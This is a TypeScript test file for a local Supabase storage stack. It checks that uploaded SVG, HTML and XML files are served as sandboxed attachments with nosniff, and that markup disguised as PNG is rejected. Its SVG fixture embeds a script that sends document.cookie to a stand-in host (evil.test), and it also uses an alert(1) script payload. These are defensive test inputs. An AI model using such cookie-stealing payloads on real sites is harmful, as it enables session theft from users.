import type { SupabaseClient } from '@supabase/supabase-js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LocalStack } from '@/supabase/local';
import { client, startTestStack } from './helpers';
import { storageFetch } from './storage-helpers';

// Issue 34: a file someone uploaded must never run as a page on the storage origin. Every storage answer says
// nosniff; an SVG, HTML or XML object is only ever an attachment under a sandboxing policy, whatever bucket it
// is in; and markup sent under an image type is refused at upload.

let stack: LocalStack;
let service: SupabaseClient;

const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.test/?c="+document.cookie)</script></svg>';
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);
const SANDBOX = "default-src 'none'; sandbox";

beforeAll(async () => {
  stack = await startTestStack();
  service = client(stack, 'service');
  // 'open' stands for any bucket that still holds markup (no type list); 'pics' for an images-only one.
  await service.storage.createBucket('open', { public: true });
  await service.storage.createBucket('pics', { public: true, allowedMimeTypes: ['image/*'] });
});
afterAll(() => stack?.stop());

const publicUrl = (bucket: string, path: string) => service.storage.from(bucket).getPublicUrl(path).data.publicUrl;

describe('serving', () => {
  it('serves SVG, HTML and XML objects as sandboxed attachments, on every download route', async () => {
    const open = service.storage.from('open');
    for (const [name, type] of [
      ['x.svg', 'image/svg+xml'],
      ['x.html', 'text/html; charset=utf-8'],
      ['x.xml', 'application/xml'],
      ['x.xhtml', 'application/xhtml+xml'],
    ] as const) {
      expect((await open.upload(name, Buffer.from(SVG), { contentType: type })).error).toBeNull();
      const signed = (await open.createSignedUrl(name, 60)).data!.signedUrl;
      for (const url of [publicUrl('open', name), signed]) {
        const res = await fetch(url);
        expect(res.status, `${name} ${url}`).toBe(200);
        expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename=${name.replace('.', '\\.')};`));
        expect(res.headers.get('content-security-policy')).toBe(SANDBOX);
        expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      }
      const authed = await storageFetch(stack, `/object/authenticated/open/${name}`, { token: stack.serviceRoleKey });
      expect(authed.headers.get('content-security-policy')).toBe(SANDBOX);
      expect(authed.headers.get('content-disposition')).toMatch(/^attachment;/);
    }
  });

  it('keeps images inline and unsandboxed, with nosniff', async () => {
    expect((await service.storage.from('open').upload('dot.png', PNG, { contentType: 'image/png' })).error).toBeNull();
    const res = await fetch(publicUrl('open', 'dot.png'));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/png');
    expect(res.headers.get('content-disposition')).toBeNull();
    expect(res.headers.get('content-security-policy')).toBeNull();
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('says nosniff on every other answer too: JSON, errors, preflights and refusals before routing', async () => {
    const answers = [
      await storageFetch(stack, '/object/list/open', {
        method: 'POST',
        token: stack.serviceRoleKey,
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ prefix: '' }),
      }),
      await storageFetch(stack, '/bucket', { token: stack.serviceRoleKey }),
      await fetch(publicUrl('open', 'missing.png')),
      await storageFetch(stack, '/nothing/here', { token: stack.serviceRoleKey }),
      await storageFetch(stack, '/object/open/x.png', { method: 'OPTIONS' }),
      await fetch(`${stack.url}/storage/v1/object/public/open/%E0%A4`),
    ];
    expect(answers.map((r) => r.status)).toEqual([200, 200, 400, 404, 204, 400]);
    for (const res of answers) expect(res.headers.get('x-content-type-options'), res.url).toBe('nosniff');
  });
});

describe('uploads', () => {
  it('refuses markup sent under an image type, behind a byte-order mark or whitespace too', async () => {
    const pics = service.storage.from('pics');
    for (const body of [SVG, `\uFEFF${SVG}`, `\r\n  ${SVG}`, '<!DOCTYPE html><script>alert(1)</script>']) {
      const { error } = await pics.upload(`disguised-${body.length}.png`, Buffer.from(body), { contentType: 'image/png' });
      expect(error).toMatchObject({ statusCode: '415', message: 'mime type image/png is not supported' });
    }
    const { rows } = await stack.db.query("select name from storage.objects where bucket_id = 'pics'");
    expect(rows).toEqual([]);
    expect((await pics.upload('dot.png', PNG, { contentType: 'image/png' })).error).toBeNull();
  });
});
